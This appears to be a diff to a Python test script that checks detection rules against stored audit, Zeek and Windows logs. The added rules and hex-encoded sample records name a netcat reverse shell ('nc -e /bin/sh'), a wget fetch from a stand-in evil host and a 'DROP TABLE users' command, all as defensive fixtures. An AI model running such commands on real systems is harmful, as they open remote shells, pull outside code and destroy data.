@@ -1,5 +1,5 @@
-"""Rules over stored events: the condition that the store is asked leaves out nothing that a
-rule matches, and a stored row matches as the event did when it came in.  The published rules
+"""Rules over stored events: the condition that the store is asked, of one rule and of many
+together, leaves out nothing that a rule matches, and a stored row matches as the event did when it came in.  The published rules
 over the public recordings, and rules of its own over records that write the same text in
 other ways.  Usage: hunt_filter.py STORE_SERVE HUNT_FILTER"""
 import glob
@@ -81,6 +81,26 @@ detection: {a: {query|re: '^fi[a-z]+\\.example$'}, condition: a}
 title: null and exists
 logsource: {product: zeek}
 detection: {a: {query|exists: true, absent: null}, condition: a}
+---
+title: an argument in hexadecimal digits
+logsource: {product: linux, service: auditd}
+detection: {a: {type: EXECVE, a1|contains: secret plan}, condition: a}
+---
+title: a command line in hexadecimal digits, zeros between arguments
+logsource: {product: linux, service: auditd}
+detection: {a: {type: PROCTITLE, proctitle|contains: 'NC -e /bin/sh'}, condition: a}
+---
+title: a program and its path in hexadecimal digits
+logsource: {product: linux, service: auditd}
+detection: {a: {comm: Odd Tool, exe|endswith: '/odd tool.x-1_2'}, condition: a}
+---
+title: keywords in hexadecimal digits
+logsource: {product: linux, service: auditd}
+detection: {words: ['drop table'], condition: words}
+---
+title: all of several in hexadecimal digits
+logsource: {product: linux}
+detection: {a: {proctitle|contains|all: [wget, evil.example]}, condition: a}
 """
 
 
@@ -93,7 +113,22 @@ ZEEK = [zeek("dns", query="host.\\u0065vil.example").replace("\\\\u", "\\u"), ze
         zeek("dns", query="WWW.UPPER.example"), zeek("conn", **{"id.orig_h": "2001:DB8:0::17"}), zeek("conn", **{"id.resp_p": 4443}),
         zeek("http", host="www.joined.example", uri="/index.html", method="GET", **{"id.resp_p": 80}), zeek("dns", query="first.example"), zeek("dns", query="b.third.example"),
         zeek("dns", query="part-four-th.example"), zeek("dns", query="x-y.example"), zeek("dns", query="a.anything.example"), zeek("dns", query="fifty.example")]
-SYSLOG = ["<38>1 2023-11-14T22:13:20Z web1 sshd 77 - - Failed password for root from 192.0.2.9 port 22 ssh2"]
+
+
+def audit(record):
+    return f"<30>1 2023-11-14T22:13:20Z web1 audispd - - - type={record.replace(' ', ' msg=audit(1700000000.123:77): ', 1)}"
+
+
+def digits(text):
+    return text.encode().hex().upper()
+
+
+SYSLOG = ["<38>1 2023-11-14T22:13:20Z web1 sshd 77 - - Failed password for root from 192.0.2.9 port 22 ssh2",
+          audit(f'EXECVE argc=2 a0="cat" a1={digits("my Secret Plan.txt")}'), audit(f'EXECVE argc=2 a0="cat" a1={digits("no plan")}'),
+          audit(f"PROCTITLE proctitle={digits('nc' + chr(0) + '-E' + chr(0) + '/bin/sh')}"),
+          audit(f"SYSCALL arch=c000003e syscall=59 a0=55d0c0ffee00 comm={digits('ODD tool')} exe={digits('/opt/a b/Odd Tool.X-1_2')} key=(null)"),
+          audit(f"PROCTITLE proctitle={digits('psql' + chr(0) + '-c' + chr(0) + 'DROP TABLE users')}"),
+          audit(f"PROCTITLE proctitle={digits('wget' + chr(0) + 'http://EVIL.example/x y')}"), audit('PROCTITLE proctitle="ls"')]
 WINDOWS = [json.dumps({"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Hostname": "pc1", "EventTime": "2023-11-14 22:13:20",
                        "Image": "C:\\Windows\\System32\\WHOAMI.exe", "CommandLine": "whoami /all"}),
            json.dumps({"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Hostname": "pc1", "EventTime": "2023-11-14 22:13:20",
